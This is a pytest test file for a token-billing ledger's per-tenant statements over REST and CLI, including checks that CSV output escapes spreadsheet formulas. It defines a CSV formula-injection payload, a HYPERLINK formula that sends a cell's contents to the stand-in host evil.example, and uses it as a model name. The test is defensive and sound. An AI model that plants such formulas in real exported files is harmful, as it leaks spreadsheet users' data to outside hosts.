"""Statements: a tenant's tokens per model, priced by its contract, over REST (a real
server) and `tokenfabric ledger statement` (a real subprocess); CSV cells a spreadsheet
would run are escaped, in the statement and in ledger.csv."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from tokenfabric.controller.policy.schema import parse_policy
from tokenfabric.controller.policy.source import SpecError

from .conftest import ADMIN, AGENT, POLICY, REGISTRATION, make_controller, serve_in_thread

PRICES = """
    currency: EUR
    prices:
      tiny-llama: {input_per_million: 0.5, output_per_million: 1.5}
      "*": {input_per_million: 1, output_per_million: 2}
"""
PRICED = POLICY.replace("    request_priority: 10\n", "    request_priority: 10\n" + PRICES)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def priced(tmp_path):
    ctl = make_controller(tmp_path)
    ctl.model.policy = parse_policy(PRICED, "policy.yaml", model=ctl.model)
    (tmp_path / "policy.yaml").write_text(PRICED)
    yield from serve_in_thread(ctl)


def bill(live):
    c = live.client(AGENT)
    assert c.post("/api/v1/backends", json=REGISTRATION).status_code == 201
    usage = [{"tenant_id": 1, "model": "tiny-llama", "prompt_tokens": 200_000,
              "completion_tokens": 100_000},
             {"tenant_id": 1, "model": EVIL, "prompt_tokens": 1000, "completion_tokens": 3000},
             {"tenant_id": 2, "model": "tiny-llama", "prompt_tokens": 7, "completion_tokens": 7}]
    r = c.post("/api/v1/backends/gpu2-llama/report", json={
        "running": 0, "waiting": 0, "kv_cache_usage": 0.0, "healthy": True, "usage": usage})
    assert r.status_code == 200, r.text


def test_statement_over_rest_json_and_csv(priced):
    bill(priced)
    c = priced.client(ADMIN)
    st = c.get("/api/v1/ledger/statement", params={"tenant": "acme"}).json()
    assert (st["tenant_id"], st["contract"], st["currency"]) == (1, "gold", "EUR")
    lines = {x["model"]: x for x in st["lines"]}
    # 200k in at 0.5/M + 100k out at 1.5/M; the other model at the "*" price
    assert lines["tiny-llama"]["amount"] == "0.250000"
    assert lines[EVIL]["amount"] == "0.007000" and lines[EVIL]["input_per_million"] == "1"
    assert st["total"] == "0.257000" and st["all_priced"]
    # by id too; a range before the usage is empty
    assert c.get("/api/v1/ledger/statement", params={"tenant": "1"}).json()["total"] == "0.257000"
    empty = c.get("/api/v1/ledger/statement", params={"tenant": "acme", "until": 1000}).json()
    assert empty["lines"] == [] and empty["total"] == "0.000000"
    # bronze has no prices: tokens, no amounts
    bronze = c.get("/api/v1/ledger/statement", params={"tenant": "umbrella"}).json()
    assert bronze["lines"][0]["amount"] is None and not bronze["all_priced"]
    text = c.get("/api/v1/ledger/statement", params={"tenant": "acme", "format": "csv"}).text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][6] == "model" and rows[-1][6] == "TOTAL" and rows[-1][-1] == "0.257000"
    assert "'" + EVIL in [r[6] for r in rows]  # escaped: a spreadsheet shows it as text
    assert c.get("/api/v1/ledger/statement", params={"tenant": "nobody"}).status_code == 404
    assert c.get("/api/v1/ledger/statement",
                 params={"tenant": "acme", "format": "xml"}).status_code == 422


def test_ledger_csv_escapes_formulas(priced):
    bill(priced)
    text = priced.client(ADMIN).get("/api/v1/ledger.csv").text
    models = [r[3] for r in csv.reader(io.StringIO(text))][1:]
    assert "'" + EVIL in models and EVIL not in models


def test_statement_cli(priced, tmp_path):
    bill(priced)
    args = [sys.executable, "-m", "tokenfabric.cli", "ledger", "statement", "--ledger",
            str(tmp_path / "ledger.db"), "--policy", str(tmp_path / "policy.yaml"),
            "--tenant", "acme", "--from", "2000-01-01", "--to", "2100-01-01T00:00:00Z"]
    done = subprocess.run([*args, "--format", "json"], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    st = json.loads(done.stdout)
    assert st["total"] == "0.257000" and st["from"] == "2000-01-01T00:00:00Z"
    done = subprocess.run(args, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and f"'{EVIL}".replace('"', '""') in done.stdout
    bad = subprocess.run([*args[:-4], "--from", "yesterday"], capture_output=True, text=True,
                         timeout=60)
    assert bad.returncode == 2 and "neither unix seconds nor an ISO 8601" in bad.stderr


@pytest.mark.parametrize("prices,fragment", [
    ('      m: {input_per_million: -1, output_per_million: 1}', "must be a price"),
    ('      m: {input_per_million: 1}', "missing required key 'output_per_million'"),
    ('      m: {input_per_million: 1, output_per_million: 1, cached: 2}', "unknown key"),
    ('      m: {input_per_million: "lots", output_per_million: 1}', "must be a price"),
])
def test_bad_prices_are_refused(prices, fragment):
    text = POLICY.replace("    request_priority: 10\n",
                          "    request_priority: 10\n    prices:\n" + prices + "\n")
    with pytest.raises(SpecError, match=fragment):
        parse_policy(text, "policy.yaml")
